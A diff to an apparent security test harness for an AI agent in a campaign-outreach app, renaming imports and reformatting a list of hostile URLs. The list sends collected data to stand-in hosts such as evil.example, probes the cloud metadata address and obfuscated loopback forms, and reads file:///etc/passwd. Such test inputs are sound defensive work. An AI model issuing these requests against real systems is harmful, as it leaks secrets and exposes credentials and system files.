@@ -1,7 +1,7 @@
-import type { CampaignSnapshot } from '#apps/outreach/domain/decide/show.ts'
+import type { CampaignSnapshot } from '#apps/outreach/domain/decide/snapshot.ts'
 import type { AgentCall } from '#kernel/ports/agent.ts'
 import { BASE } from '../../../support/fake-network.ts'
-import { CANARIES, THIEF } from '../judges/traces.ts'
+import { CANARIES, THIEF } from '../oracles/traces.ts'
 import type { Order, Want } from '../orders.ts'
 
 type Proposal = Record<string, unknown>
@@ -92,9 +92,7 @@ export const translateCampaigns =
       url: [
         ...['http://127.0.0.1:9/collect?d=', 'http://evil.example/?d='].map((url) => open(url + everything)),
         ...['http://169.254.169.254/latest/meta-data/', 'http://[::1]:4380/', 'http://0x7f000001/'].map(open),
-        ...['file:///etc/passwd', 'javascript:alert(1)', 'data:text/html,x', 'practice:search?query=x&page=9'].map(
-          open,
-        ),
+        ...['file:///etc/passwd', 'javascript:alert(1)', 'data:text/html,x', 'demo:search?query=x&page=9'].map(open),
         ...['http://network.example@evil.example/', 'http://network.example.evil.example/'].map(open),
       ],
       python: [
